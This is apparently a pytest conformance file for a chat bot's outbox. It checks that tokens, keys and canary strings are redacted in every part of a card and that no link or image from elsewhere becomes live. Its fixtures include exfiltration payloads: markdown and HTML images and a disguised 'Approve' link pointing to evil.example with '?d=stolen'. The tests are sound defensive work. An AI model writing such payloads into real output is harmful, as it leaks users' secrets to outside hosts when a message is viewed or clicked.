"""P23 outbound, attacks 59–61: no canary reaches a chat, whichever part of a card it was in, and no link is live."""

import base64
import importlib
import json
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, replace
from pathlib import Path

import pytest

from agents.domain.ids import DecisionId, Thread
from agents.domain.limits import Limits
from agents.domain.text.redact import MASK, Redactor
from bot.delivery.announcer import wish
from bot.delivery.outbox import Outbox
from bot.messages import Arrow, Button, Card, Choice, Graph, Node, Row
from bot.permissions import Permissions
from bot.platforms.console.guard import HEADERS
from bot.platforms.console.rendering import HERE
from bot.services import Leases, Services, SystemClock
from store.chat.posts import Act
from store.database import Database
from tests.conformance.console_rig import ConsoleRig
from tests.conformance.discord_rig import DiscordRig
from tests.conformance.rig import Rig
from tests.conformance.rigs import RIGS
from tests.conformance.slack_rig import SlackRig
from tests.domain.secret_corpus import BARE, pem
from tests.fakes.slack.shown import links_of

CANARY = "canary-7f3a-in-the-mine"  # of no known shape: known only because it is set
TOKEN, KEY = BARE["github classic"], pem("OPENSSH ")
IMAGE = "![x](https://evil.example/p.png?d=stolen) <img src=https://evil.example/i.png>"
LINK = "see https://evil.example/?d=stolen and [Approve](https://evil.example/ok)"
DECISION = DecisionId("d" * 22)


def a_card(*secrets: str) -> Card:
    """The secrets in every part that people see."""
    said = f"found {' and '.join(secrets)} in the log"
    button = Button(label=said[:70], choice=Choice(decision=DECISION, letter="a"), asks=said)
    graph = Graph(
        nodes=(Node(id="a", label=said, column=0), Node(id="b", label="b", column=1)),
        arrows=(Arrow(start="a", end="b"),),
        text=said,
    )
    return Card(
        title=f"T-1 failed: {said}",
        text=f"Traceback\n  run(['git', 'push', 'https://x:{secrets[0]}@github.com/a/b'])\n{said}",
        rows=(Row(label=said, value=said),),
        lines=(said, *KEY.split("\n"), "the end"),
        buttons=(button,),
        more=(replace(button, choice=Choice(decision=DECISION, letter="b"), asks="", confirm=said),),
        footer=said,
        decision=DECISION,
        graph=graph,
    )


@dataclass
class Post:
    """The outbox over one platform, and everything that the platform was given."""

    rig: Rig
    office: Services

    async def send(self, key: str, thread: Thread, card: Card, act: Act = Act.POST, target: str = "") -> None:
        wished = wish(key, thread, card, act, target)
        await self.office.database.write(lambda tx: tx.posts.want(wished, self.office.clock.now()))
        outbox = Outbox(self.office, {self.rig.platform.name: self.rig.platform}, Leases(self.office.clock))
        assert await outbox.send_due() == 1

    async def everything(self, thread: Thread) -> str:
        """Whatever left the house for this platform, raw."""
        seen = [v.text for who in (self.rig.ana, self.rig.bo) for v in await self.rig.visible(thread, who)]
        match self.rig:
            case SlackRig(fake=fake):
                files = [bytes(file["data"] or b"").decode("utf-8", "replace") for file in fake.world.files.values()]
                return json.dumps([seen, files, [call.given for call in fake.server.calls]], default=str)
            case DiscordRig(fake=fake):
                messages = [
                    (m.json(), [data.decode("utf-8", "replace") for data in m.files.values()])
                    for m in fake.world.messages()
                ]
                return json.dumps([seen, messages, [c.name for c in fake.world.channels.values()]], default=str)
            case ConsoleRig():
                rows = await self.rig._database.read(
                    lambda tx: tx.db.exec_driver_sql("SELECT card FROM messages").scalars().all()
                )
                return json.dumps([seen, list(rows)])
        raise AssertionError("a platform that nobody thought of")


@pytest.fixture(params=sorted(RIGS))
async def post(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Post]:
    async with AsyncExitStack() as stack:
        rig: Rig = await importlib.import_module(RIGS[request.param]).open_rig(stack, tmp_path)
        database = Database(f"sqlite:///{tmp_path / 'office.db'}")
        stack.callback(database.close)
        office = Services(
            database=database,
            permissions=Permissions({}, frozenset()),
            clock=SystemClock(),
            limits=Limits(status_edits_apart=0),
            redact=Redactor([CANARY]),
        )
        yield Post(rig, office)


def spellings(secret: str) -> list[str]:
    return [secret, secret[:14], secret[-14:], base64.b64encode(secret.encode()).decode()[:16]]


async def test_no_secret_leaves_in_any_part_of_a_card(post: Post) -> None:
    thread = await post.rig.thread()
    encoded = base64.b64encode(TOKEN.encode()).decode()
    card = a_card(CANARY, TOKEN, encoded, f"{TOKEN[:20]}\n{TOKEN[20:]}")
    await post.send("reply:1", thread, card)
    await post.send("reply:1", thread, replace(card, title=f"now {TOKEN}"))
    await post.send("whisper:1", thread, card, Act.WHISPER, post.rig.bo)
    told = await post.everything(thread)
    assert told.count(MASK) >= 8
    assert "T-1 failed" in told or "now [secret]" in told
    for canary in (*spellings(CANARY), *spellings(TOKEN), *spellings(KEY.split("\n")[3]), encoded[-12:]):
        assert canary not in told, canary


async def test_what_is_too_long_for_a_message_is_redacted_in_its_file_too(post: Post) -> None:
    thread = await post.rig.thread()
    await post.send("reply:1", thread, Card(title="the log", text=f"line of a log {TOKEN}\n" * 800))
    told = await post.everything(thread)
    assert MASK in told
    assert TOKEN not in told


async def test_no_picture_and_no_link_of_others_is_live(post: Post) -> None:
    """Attack 60: what a minion writes can carry nothing out by being looked at or pressed."""
    thread = await post.rig.thread()
    both = f"{IMAGE} {LINK}"
    card = Card(title=LINK, text=both, rows=(Row(label="out", value=both),), lines=(both,), footer=LINK)
    await post.send("reply:1", thread, card)
    match post.rig:
        case SlackRig(fake=fake):
            (message,) = fake.posts()
            assert message.unfurls in ((False, False), ("false", "false"), ("0", "0"))
            assert links_of(message.blocks, message.text) == set()
            assert all(block["type"] != "image" for block in message.blocks)
            assert '"type": "image"' not in json.dumps(message.blocks)
        case DiscordRig(fake=fake):
            posted = next(m for m in fake.world.messages() if m.author is fake.world.bot)
            live = {"image", "thumbnail", "title", "video"}  # a footer is plain text, in which nothing can be pressed
            assert not any(live & set(embed) for embed in posted.embeds)
            ours = "https://discord.com/channels/"  # by which the message is found again
            assert all(embed.get("url", ours).startswith(ours) for embed in posted.embeds)
            shown = "\n".join((posted.content, *(embed["description"] for embed in posted.embeds)))
            assert shown.count("https://evil.example") == shown.count("`https://evil.example")
        case _:
            (seen,) = await post.rig.visible(thread, post.rig.bo)
            assert "https://evil.example" in seen.text, "the console shows it as text; its page is tested below"


def test_the_console_page_makes_no_link_and_loads_nothing_from_elsewhere() -> None:
    assert HEADERS["Content-Security-Policy"].startswith("default-src 'self';")
    for template in (HERE / "templates").rglob("*.html"):
        written = template.read_text()
        assert "|safe" not in written.replace(" ", ""), template
        assert "://" not in written.replace("http://www.w3.org", ""), template
